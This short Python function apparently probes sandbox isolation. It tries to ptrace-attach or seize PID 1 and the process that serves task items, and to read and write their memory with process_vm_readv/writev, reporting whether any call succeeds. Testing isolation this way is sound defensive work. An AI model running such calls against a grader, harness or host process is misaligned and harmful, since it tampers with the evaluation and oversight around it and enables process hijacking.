"""Stop, read and write the process that hands out the items."""


def attack(sample, item):
    import ctypes

    libc = ctypes.CDLL(None)
    buffer = ctypes.create_string_buffer(64)

    class Span(ctypes.Structure):
        _fields_ = (("base", ctypes.c_void_p), ("size", ctypes.c_size_t))

    here = Span(ctypes.addressof(buffer), 64)
    for pid in (1, item["pid"]):
        if libc.ptrace(16, pid, 0, 0) == 0 or libc.ptrace(0x4206, pid, 0, 0) == 0:
            return True
        if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(here), 1, 0) > 0:
            return True
        if libc.process_vm_writev(pid, ctypes.byref(here), 1, ctypes.byref(here), 1, 0) > 0:
            return True
    return False
